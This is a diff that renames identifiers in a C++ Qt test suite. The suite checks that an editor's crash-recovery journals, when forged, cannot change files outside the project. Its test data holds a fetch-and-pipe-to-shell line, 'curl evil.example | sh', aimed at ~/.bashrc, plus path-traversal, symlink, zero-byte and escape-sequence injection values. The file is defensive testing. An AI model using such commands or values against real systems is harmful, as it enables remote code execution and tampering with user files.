@@ -20,7 +20,7 @@ namespace fs = std::filesystem;
 
 namespace {
 
-const std::string kEvil = "curl evil.example | sh\n";
+const std::string kHostile = "curl evil.example | sh\n";
 
 /// A journal as its writer makes it, byte by byte, so that every field can be a lie.
 struct Forged {
@@ -42,21 +42,21 @@ struct Forged {
 };
 
 struct Place {
-    Desk desk;
-    std::string project = desk.path("configs"), outside = desk.path("outside"), bashrc = outside + "/.bashrc";
+    DocumentFixture fixture;
+    std::string project = fixture.path("configs"), outside = fixture.path("outside"), bashrc = outside + "/.bashrc";
     std::string inProject = project + "/.trundle/journal/1.journal", own = projectStateFolder(project) + "/journal/1.journal";
 
     Place() {
-        desk.write("outside/.bashrc", "alias ll='ls -l'\n");
-        desk.write("outside/folder/x.sim", "Seed = 1\n");
+        fixture.write("outside/.bashrc", "alias ll='ls -l'\n");
+        fixture.write("outside/folder/x.sim", "Seed = 1\n");
     }
-    [[nodiscard]] RecoveredText evil(const std::string& path) const { return {bytesOf(path), kEvil}; }
+    [[nodiscard]] RecoveredText hostile(const std::string& path) const { return {bytesOf(path), kHostile}; }
     /// Edits of the project's own file, as an honest window would leave.
     [[nodiscard]] std::pair<std::string, RecoveredText> honest() const {
-        return {desk.main, {kMain, std::string(kMain) + "Seed = 9\n"}};
+        return {fixture.main, {kMain, std::string(kMain) + "Seed = 9\n"}};
     }
     [[nodiscard]] Forged forged(const std::string& path) const {
-        return {desk.main, {}, thisProcess(), {{path, evil(path)}, honest()}};
+        return {fixture.main, {}, thisProcess(), {{path, hostile(path)}, honest()}};
     }
     static void put(const std::string& at, const std::string& bytes) {
         fs::create_directories(fs::path(at).parent_path());
@@ -76,7 +76,7 @@ enum class Offer { None, OwnFileOnly, Refused };
 struct Attack {
     const char* name;
     Offer offer;
-    bool told; ///< that there are journals which are not read
+    bool reported; ///< that there are journals which are not read
     std::function<void(const Place&)> prepare;
 };
 
@@ -87,7 +87,7 @@ const std::vector<Attack>& attacks() {
         {"it comes with the project", None, true, [](const Place& p) { p.put(p.inProject, p.forged(p.bashrc).bytes()); }},
         {"it comes with the project and is of its own files", None, true,
          [](const Place& p) {
-             p.put(p.inProject, Forged{p.desk.main, {}, thisProcess(), {p.honest()}}.bytes());
+             p.put(p.inProject, Forged{p.fixture.main, {}, thisProcess(), {p.honest()}}.bytes());
          }},
         {"it comes from another machine", None, true,
          [](const Place& p) {
@@ -103,14 +103,14 @@ const std::vector<Attack>& attacks() {
          }},
         {"its folder is a link", None, false,
          [](const Place& p) {
-             p.put(p.desk.path("journals/1.journal"), p.forged(p.bashrc).bytes());
+             p.put(p.fixture.path("journals/1.journal"), p.forged(p.bashrc).bytes());
              fs::create_directories(p.project + "/.trundle");
-             fs::create_symlink(p.desk.path("journals"), p.project + "/.trundle/journal");
+             fs::create_symlink(p.fixture.path("journals"), p.project + "/.trundle/journal");
          }},
         {"the project's .trundle is a link", None, false,
          [](const Place& p) {
-             p.put(p.desk.path("dot/journal/1.journal"), p.forged(p.bashrc).bytes());
-             fs::create_symlink(p.desk.path("dot"), p.project + "/.trundle");
+             p.put(p.fixture.path("dot/journal/1.journal"), p.forged(p.bashrc).bytes());
+             fs::create_symlink(p.fixture.path("dot"), p.project + "/.trundle");
          }},
         {"it is a pipe", None, true,
          [](const Place& p) {
@@ -155,9 +155,11 @@ const std::vector<Attack>& attacks() {
              p.put(p.own, p.forged(p.project + "/way/x.sim").bytes());
          }},
         {"a name with commands for a terminal and HTML", OwnFileOnly, false,
-         [](const Place& p) { p.put(p.own, p.forged(p.outside + "/\x1b[2J<img src='/dev/zero'>\n" + p.desk.main).bytes()); }},
+         [](const Place& p) { p.put(p.own, p.forged(p.outside + "/\x1b[2J<img src='/dev/zero'>\n" + p.fixture.main).bytes()); }},
         {"a zero byte behind a good name", OwnFileOnly, false,
-         [](const Place& p) { p.put(p.own, p.forged(p.desk.robot + std::string("\0/../../../outside/.bashrc", 26)).bytes()); }},
+         [](const Place& p) {
+             p.put(p.own, p.forged(p.fixture.robot + std::string("\0/../../../outside/.bashrc", 26)).bytes());
+         }},
         {"what it had open is outside", Refused, false,
          [](const Place& p) {
              Forged f = p.forged(p.bashrc);
@@ -166,11 +168,11 @@ const std::vector<Attack>& attacks() {
          }},
         {"all that it changes is outside", Refused, false,
          [](const Place& p) {
-             p.put(p.own, Forged{p.desk.main, {}, thisProcess(), {{p.bashrc, p.evil(p.bashrc)}}}.bytes());
+             p.put(p.own, Forged{p.fixture.main, {}, thisProcess(), {{p.bashrc, p.hostile(p.bashrc)}}}.bytes());
          }},
         {"a new text with the path of a file", Refused, false,
          [](const Place& p) {
-             Forged f{p.bashrc, "../outside/.bashrc", thisProcess(), {{p.bashrc, p.evil(p.bashrc)}}};
+             Forged f{p.bashrc, "../outside/.bashrc", thisProcess(), {{p.bashrc, p.hostile(p.bashrc)}}};
              p.put(p.own, f.bytes());
          }},
         {"its writer is on another machine", None, false,
@@ -187,9 +189,9 @@ const std::vector<Attack>& attacks() {
          }},
         {"it is a link", None, false,
          [](const Place& p) {
-             p.put(p.desk.path("elsewhere.journal"), p.forged(p.bashrc).bytes());
+             p.put(p.fixture.path("elsewhere.journal"), p.forged(p.bashrc).bytes());
              fs::create_directories(fs::path(p.own).parent_path());
-             fs::create_symlink(p.desk.path("elsewhere.journal"), p.own);
+             fs::create_symlink(p.fixture.path("elsewhere.journal"), p.own);
          }},
         {"others may write it", None, false,
          [](const Place& p) {
@@ -203,7 +205,7 @@ const std::vector<Attack>& attacks() {
          }},
         {"cut off after what is honest", OwnFileOnly, false,
          [](const Place& p) {
-             Forged f{p.desk.main, {}, thisProcess(), {p.honest(), {p.bashrc, p.evil(p.bashrc)}}};
+             Forged f{p.fixture.main, {}, thisProcess(), {p.honest(), {p.bashrc, p.hostile(p.bashrc)}}};
              const std::string bytes = f.bytes();
              p.put(p.own, bytes.substr(0, bytes.size() - 5));
          }},
@@ -216,7 +218,7 @@ const std::vector<Attack>& attacks() {
 class HostileJournalsTest : public QObject {
     Q_OBJECT
 private Q_SLOTS:
-    void initTestCase() { m_parts = makeParts(); }
+    void initTestCase() { m_application = makeApplication(); }
 
     void nothingOutsideIsChanged_data() {
         QTest::addColumn<int>("row");
@@ -229,9 +231,9 @@ private Q_SLOTS:
         const Place place;
         attack.prepare(place);
         const auto before = place.state();
-        Document document(*m_parts);
-        QCOMPARE(why(document.open(place.desk.main)), "");
-        QCOMPARE(!journalsNotRead(document).isEmpty(), attack.told);
+        Document document(*m_application);
+        QCOMPARE(why(document.open(place.fixture.main)), "");
+        QCOMPARE(!journalsNotRead(document).isEmpty(), attack.reported);
         const std::vector<Recovery> found = document.recoveries();
         QCOMPARE(found.size(), attack.offer == Offer::None ? 0u : 1u);
         for (const Recovery& recovery : found) {
@@ -244,18 +246,18 @@ private Q_SLOTS:
         QCOMPARE(document.isModified(), attack.offer == Offer::OwnFileOnly);
         QCOMPARE(why(document.save()), "");
         QCOMPARE(place.state(), before);
-        QCOMPARE(bytesOf(place.desk.main),
+        QCOMPARE(bytesOf(place.fixture.main),
                  attack.offer == Offer::OwnFileOnly ? std::string(kMain) + "Seed = 9\n" : std::string(kMain));
-        QCOMPARE(bytesOf(place.desk.robot), std::string(kRover));
+        QCOMPARE(bytesOf(place.fixture.robot), std::string(kRover));
     }
 
-    // What was left out is not lost: the journal stays, and says so.
-    void whatIsLeftOutIsSaidAndKept() {
+    // What was left out is not lost: the journal stays, and reports it.
+    void reportsSkippedFiles() {
         const Place place;
         place.put(place.own, place.forged(place.bashrc).bytes());
-        Document document(*m_parts);
+        Document document(*m_application);
         QSignalSpy noticed(&document, &Document::notice);
-        QVERIFY(document.open(place.desk.main).ok());
+        QVERIFY(document.open(place.fixture.main).ok());
         const Recovery recovery = document.recoveries().at(0);
         QCOMPARE(filesOutside(recovery, document.foldersOf(recovery.project)), std::vector<std::string>{place.bashrc});
         QVERIFY(document.recover(recovery).ok());
@@ -264,16 +266,16 @@ private Q_SLOTS:
         QCOMPARE(bytesOf(place.own), place.forged(place.bashrc).bytes());
     }
 
-    // A search folder is the user's choice: what is imported from there may be edited, and comes back.
-    void filesOfASearchFolderComeBack() {
+    // A search folder is the user's choice: what is imported from there may be edited, and returns.
+    void restoresFilesOfSearchFolder() {
         const Place place;
         const std::string part = place.outside + "/folder/x.sim";
-        place.put(place.own, Forged{place.desk.main, {}, thisProcess(), {{part, {bytesOf(part), "Seed = 5\n"}}}}.bytes());
-        Document document(*m_parts);
+        place.put(place.own, Forged{place.fixture.main, {}, thisProcess(), {{part, {bytesOf(part), "Seed = 5\n"}}}}.bytes());
+        Document document(*m_application);
         OpenOptions options;
         options.includes = {place.outside};
         document.setOptions(options);
-        QVERIFY(document.open(place.desk.main).ok());
+        QVERIFY(document.open(place.fixture.main).ok());
         QCOMPARE(why(document.recover(document.recoveries().at(0))), "");
         QCOMPARE(why(document.save()), "");
         QCOMPARE(bytesOf(part), "Seed = 5\n");
@@ -283,12 +285,12 @@ private Q_SLOTS:
     void aSaveFollowsNoLinkOutOfTheProject() {
         for (const bool there : {true, false}) {
             const Place place;
-            Document document(*m_parts);
-            QVERIFY(document.open(place.desk.main).ok());
+            Document document(*m_application);
+            QVERIFY(document.open(place.fixture.main).ok());
             QVERIFY(document.setValues(u"Set"_qs, {{"Tick", "0.02"}}).ok());
-            fs::remove(place.desk.main);
-            if (there) place.desk.write("outside/copy.sim", kMain); // the same bytes, so that nobody sees a change
-            fs::create_symlink(place.outside + "/copy.sim", place.desk.main);
+            fs::remove(place.fixture.main);
+            if (there) place.fixture.write("outside/copy.sim", kMain); // the same bytes, so that nobody sees a change
+            fs::create_symlink(place.outside + "/copy.sim", place.fixture.main);
             const auto before = place.state();
             QVERIFY(!document.save().ok());
             QCOMPARE(place.state(), before);
@@ -296,16 +298,17 @@ private Q_SLOTS:
     }
 
     // Words that a person reads say where the journals are, and where to put them.
-    void whatIsNotReadIsSaidWithBothPlaces() {
+    void reportsUnreadJournalsWithBothFolders() {
         const Place place;
         place.put(place.inProject, place.forged(place.bashrc).bytes());
-        Document document(*m_parts);
-        QVERIFY(document.open(place.desk.main).ok());
-        const QString said = journalsNotRead(document);
-        QVERIFY2(said.contains(QString::fromStdString(fs::path(place.inProject).parent_path().string())), qPrintable(said));
-        QVERIFY2(said.contains(QString::fromStdString(fs::path(place.own).parent_path().string())), qPrintable(said));
-        // Done as it says, an honest one comes back.
-        place.put(place.inProject, Forged{place.desk.main, {}, thisProcess(), {place.honest()}}.bytes());
+        Document document(*m_application);
+        QVERIFY(document.open(place.fixture.main).ok());
+        const QString reportOf = journalsNotRead(document);
+        QVERIFY2(reportOf.contains(QString::fromStdString(fs::path(place.inProject).parent_path().string())),
+                 qPrintable(reportOf));
+        QVERIFY2(reportOf.contains(QString::fromStdString(fs::path(place.own).parent_path().string())), qPrintable(reportOf));
+        // Done as it says, an honest one returns.
+        place.put(place.inProject, Forged{place.fixture.main, {}, thisProcess(), {place.honest()}}.bytes());
         fs::create_directories(fs::path(place.own).parent_path());
         fs::rename(place.inProject, place.own);
         QVERIFY(journalsNotRead(document).isEmpty());
@@ -314,7 +317,7 @@ private Q_SLOTS:
     }
 
 private:
-    std::unique_ptr<Parts> m_parts;
+    std::unique_ptr<Application> m_application;
 };
 
 QTEST_GUILESS_MAIN(HostileJournalsTest)
